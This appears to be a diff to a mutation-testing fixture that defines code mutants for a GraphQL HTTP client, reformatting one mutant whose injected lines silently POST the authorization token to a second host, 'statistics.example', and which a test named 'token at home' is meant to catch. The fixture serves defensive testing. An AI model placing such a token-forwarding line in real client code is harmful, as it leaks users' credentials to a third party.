@@ -26,11 +26,11 @@ export const wireMutants: readonly Mutant[] = [
   {
     title: 'the token goes to a second host as well',
     file: 'lib/http/graphql-client.ts',
-    find: '    return reporting(this.options, () => (this.options.exchange || wxRequest)({\n',
+    find: '    return reporting(this.options, () =>\n      (this.options.exchange || wxRequest)({\n',
     replace:
-      "    const header = { authorization: token || '' };\n"
-      + "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n"
-      + '    return reporting(this.options, () => (this.options.exchange || wxRequest)({\n',
+      "    const header = { authorization: token || '' };\n" +
+      "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n" +
+      '    return reporting(this.options, () =>\n      (this.options.exchange || wxRequest)({\n',
     caughtBy: 'token at home',
   },
   {
